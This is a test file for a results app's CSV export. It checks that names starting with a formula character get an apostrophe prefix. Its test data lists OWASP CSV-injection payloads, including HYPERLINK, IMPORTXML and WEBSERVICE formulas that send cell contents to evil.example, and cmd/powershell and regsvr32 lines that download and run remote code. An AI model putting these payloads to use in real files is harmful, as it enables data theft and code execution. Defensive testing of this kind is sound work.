/**
 * Issue 21 item 8: a start-list name such as `=HYPERLINK(...)` must never reach a spreadsheet as a formula. Every
 * payload of OWASP's CSV-injection page (https://owasp.org/www-community/attacks/CSV_Injection) is written as a
 * name and read back: each cell that began with `=`, `+`, `-`, `@`, a tab or a carriage return starts with `'`.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, resultsCsv } from '../../../app/exports/csv.js';
import { makeExportFixture, type ExportFixture } from '../../helpers/export-fixture.js';
import { parseCsvRecords } from '../../helpers/export-csv.js';

/** OWASP's CSV-injection payloads, plus the project's own probes from issue 21. */
const OWASP_PAYLOADS = [
  '=cmd|\' /C calc\'!A0',
  '=cmd|\' /C notepad\'!\'A1\'',
  '=cmd|\'/C powershell IEX(wget attacker_server/shell.exe)\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for further information")',
  '=HYPERLINK(CONCATENATE("http://evil.example/?v=",A1),"click")',
  '=IMPORTXML(CONCAT("http://evil.example:8000/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/?"&A1)',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '=10+20+cmd|\' /C calc\'!A0',
  '+cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '-1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=rundll32|\'URL.dll,OpenURL calc.exe\'!A',
  '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/SCTLauncher.sct scrobj.dll\'!\'\'',
];

/** What a spreadsheet treats as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV cell writer', () => {
  it('puts a leading apostrophe before every OWASP payload and keeps the rest of the text as it was', () => {
    for (const payload of OWASP_PAYLOADS) {
      const [cell] = parseCsvRecords(`${csvField(payload)}\r\n`)[0] as string[];
      expect(cell, payload).toBe(`'${payload}`);
    }
  });

  it('leaves numbers (signed gaps, negative times, exponents) and ordinary text alone', () => {
    for (const n of ['+0.04', '-1.2', '9.58', '0', '+1.2', '1e-3', '-.5']) expect(csvField(n)).toBe(n);
    for (const t of ['Usain Bolt', "O'Brien", 'A-Team', 'DNF', '']) expect(csvField(t)).toBe(t);
  });
});

describe('CSV export of hostile start-list names', () => {
  let fx: ExportFixture;
  beforeAll(async () => {
    fx = await makeExportFixture({ certified: true });
  });
  afterAll(() => fx.cleanup());

  it('writes no cell that a spreadsheet would run, and numbers stay numbers', () => {
    const payload = (i: number) => OWASP_PAYLOADS[i % OWASP_PAYLOADS.length] as string;
    const view = {
      ...fx.view,
      results: {
        ...fx.view.results,
        finishers: fx.view.results.finishers.map((f, i) => ({ ...f, name: payload(i), team: payload(i + 5) })),
        others: fx.view.results.others.map((o, i) => ({ ...o, name: payload(i + 11), reason: payload(i + 3) })),
      },
      competitors: fx.view.competitors.map((c, i) => ({ ...c, firstName: payload(i + 1), lastName: payload(i + 2), club: payload(i + 7) })),
    };
    const records = parseCsvRecords(resultsCsv(view).subarray(3).toString('utf8'));
    const cells = records.slice(1).flat();
    const hostile = cells.filter((c) => FORMULA_START.test(c));
    // Only numbers may begin with a sign (the gap columns: "+0.06").
    expect(hostile.filter((c) => !/^[+-]\d+(\.\d+)?$/.test(c))).toEqual([]);
    expect(cells).toContain('+0.06');
    expect(cells).toContain(`'${payload(0)}`);
  });
});
